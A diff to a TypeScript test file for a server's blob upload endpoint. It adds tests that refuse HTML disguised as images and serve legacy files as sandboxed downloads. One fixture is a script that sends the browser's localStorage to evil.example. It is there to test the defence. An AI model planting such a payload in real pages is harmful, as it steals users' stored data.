@@ -3,8 +3,10 @@ import { readFileSync } from "node:fs";
 import { join } from "node:path";
 import type { FastifyInstance } from "fastify";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { moveLegacyUserData } from "../db/legacy-user-data.js";
 import { PROJECT_PATHS } from "../paths.js";
 import { buildServer } from "../server.js";
+import { addLegacyUserData } from "../test-support/legacy-user-data.js";
 import {
   DATABASE_ENGINES,
   openTestDatabase,
@@ -53,8 +55,8 @@ describe.each(DATABASE_ENGINES)("blobs on %s", (engine) => {
     const again = await upload(CAT, "image/jpeg");
     expect(again.statusCode).toBe(200);
     expect(again.json()).toEqual(first.json());
-    const rows = await test.database.db
-      .selectFrom("blobs")
+    const rows = await test.database.userData.db
+      .selectFrom("stored_blobs")
       .select("sha256")
       .where("sha256", "=", hash)
       .execute();
@@ -66,17 +68,61 @@ describe.each(DATABASE_ENGINES)("blobs on %s", (engine) => {
     expect(served.headers).toMatchObject({
       "content-type": "image/jpeg",
       "x-content-type-options": "nosniff",
+      "content-security-policy": "sandbox; default-src 'none'",
       "cache-control": "public, max-age=31536000, immutable",
       etag: `"${hash}"`,
     });
+    expect(served.headers["content-disposition"]).toBeUndefined();
+  });
+
+  // Issue 27 §2: a page uploaded under an image's name must never be stored.
+  it("refuses bytes that do not start the way their declared type does", async () => {
+    const page = Buffer.from(
+      "<!doctype html><script>fetch('https://evil.example/?k='+JSON.stringify(localStorage))</script>",
+    );
+    for (const type of ["image/png", "image/jpeg", "audio/wav", "video/mp4"]) {
+      const refused = await upload(page, type);
+      expect(refused.statusCode).toBe(400);
+      expect(refused.json().error).toBe(
+        `the file does not start the way a ${type} file does; send its real type, or a file of an accepted type`,
+      );
+    }
+    expect((await upload(CAT, "image/png")).statusCode).toBe(400);
+    const stored = await app.inject({ method: "GET", url: `/api/blobs/${sha256(page)}` });
+    expect(stored.statusCode).toBe(404);
+  });
+
+  it("serves a file kept from before the checks only as a sandboxed download", async () => {
+    const page = Buffer.from("<html><script>alert(localStorage.length)</script></html>");
+    await addLegacyUserData(test.database, {
+      blobs: [
+        {
+          sha256: sha256(page),
+          contentType: "image/png",
+          bytes: page,
+          createdAt: "2026-11-01T00:00:00.000Z",
+        },
+      ],
+      runs: [],
+    });
+    await moveLegacyUserData(test.database.db as never, engine, test.database.userData);
+    const served = await app.inject({ method: "GET", url: `/api/blobs/${sha256(page)}` });
+    expect(served.statusCode).toBe(200);
+    expect(served.headers).toMatchObject({
+      "content-type": "application/octet-stream",
+      "content-disposition": "attachment",
+      "content-security-policy": "sandbox; default-src 'none'",
+      "x-content-type-options": "nosniff",
+    });
+    expect(served.rawPayload.equals(page)).toBe(true);
   });
 
   it("stores one row when the same bytes arrive twice at once", async () => {
     const bytes = readFileSync(join(PROJECT_PATHS.mediaRoot, "astronaut-320.jpg"));
     const answers = await Promise.all([upload(bytes, "image/jpeg"), upload(bytes, "image/jpeg")]);
     expect(answers.map((answer) => answer.statusCode).sort()).toEqual([200, 201]);
-    const rows = await test.database.db
-      .selectFrom("blobs")
+    const rows = await test.database.userData.db
+      .selectFrom("stored_blobs")
       .select("size")
       .where("sha256", "=", sha256(bytes))
       .execute();
